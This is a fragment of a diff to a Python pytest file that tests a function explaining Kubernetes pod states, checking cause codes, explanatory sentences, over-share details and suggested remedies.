+        *IN_VCLUSTER,
+        *NO_POD,
+        *BOUND,
+    ],
 )
-def test_the_cause_follows_from_the_evidence(evidence: PodEvidence, code: Code, words: str) -> None:
+def test_the_cause_follows_from_the_evidence(row: _Row) -> None:
+    evidence, code, words, *acts = row
     answer = explain(evidence)
     assert answer.cause.code is code
     assert words in answer.cause.sentence
     assert answer.is_fine is (code in _FINE)
+    assert all(answer.cause.remedies[0].text.startswith(act) for act in acts)
+
+
+def test_the_figures_of_a_flag_are_details_and_its_unknown_end_is_said() -> None:
+    details = {"reason": "over-share", "usedBytes": 10.0 * 2**30, "allowedBytes": 8.0 * 2**30}
+    assert all(explain(row[0]).cause.details == details for row in FLAGS[:5])
+    told_in_the_past = [row[0] for row in FLAGS if "was flagged" in row[2]]
+    assert len(told_in_the_past) == len(_ENDED)
+    for evidence in told_in_the_past:
+        assert explain(evidence).cause.sentence.endswith(
+            "whether it still is cannot be seen without its node's agent"
+        )
+    assert [len(explain(row[0]).findings) for row in FLAGS[5:9]] == [1] * 4
+    assert _acts(UNKNOWN[0][0])[-1] == "Administrator: start KAI's binder again."
 
 
 @pytest.mark.parametrize("evidence", [row[0] for row in IN_VCLUSTER])
